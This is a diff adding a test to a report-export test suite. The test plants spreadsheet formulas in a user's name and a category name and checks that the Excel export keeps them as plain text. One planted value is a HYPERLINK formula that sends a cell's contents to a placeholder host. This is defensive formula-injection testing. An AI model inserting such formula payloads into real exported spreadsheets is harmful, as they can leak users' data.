@@ -536,6 +536,24 @@ class TestPostingReport:
         assert ["Chính sách – Pháp luật", 1, 7] in rows
         assert [vi("Total"), 3, 157] in rows
 
+    def test_typed_names_are_text_in_the_excel_file_never_formulas(
+        self, approver_client, activity, editor, categories
+    ):
+        formula = '=HYPERLINK("https://example.com/?d="&A5,"Xem")'
+        editor.first_name, editor.last_name = formula, ""
+        editor.save()
+        categories["union"].name = "@SUM(1+1)"
+        categories["union"].save()
+        response = approver_client.get(
+            self.URL, {"start": "2026-06-01", "end": "2026-06-30", "format": "xlsx"}
+        )
+        book = openpyxl.load_workbook(io.BytesIO(response.content))
+        assert book.sheetnames == [vi("Posting activity")]
+        cells = [cell for row in book.active.iter_rows() for cell in row]
+        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+        names = {cell.value for cell in cells if cell.data_type == "s"}
+        assert {formula, "@SUM(1+1)"} <= names
+
     def test_start_after_end_is_refused(self, approver_client, activity):
         response = approver_client.get(self.URL, {"start": "2026-06-30", "end": "2026-06-01"})
         assert response.status_code == 200
